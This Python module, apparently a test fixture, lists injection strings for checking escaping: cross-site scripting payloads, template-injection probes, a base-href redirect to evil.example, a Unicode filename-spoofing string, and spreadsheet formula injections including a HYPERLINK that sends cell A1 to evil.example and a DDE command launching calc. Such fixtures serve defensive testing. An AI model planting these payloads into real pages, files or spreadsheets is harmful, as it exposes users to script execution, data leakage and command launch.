"""Texts that try to run in a browser, to leave their cell, or to be a formula."""

from __future__ import annotations

RUN = "window.__ran=(window.__ran||0)+1"

TEXTS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<!--<script>{RUN}</script>",
    f'"><img src=x onerror="{RUN}">',
    f"'><svg onload='{RUN}'>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"javascript:{RUN}",
    "{{data}}{{script}}",
    "${7*7}{{constructor.constructor('alert(1)')()}}",
    "]]></title><base href='https://evil.example/'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202egnp.exe\u2028\u2029",
    '=HYPERLINK("https://evil.example/"&A1)',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1+1",
    "\uff1d1+1",
)
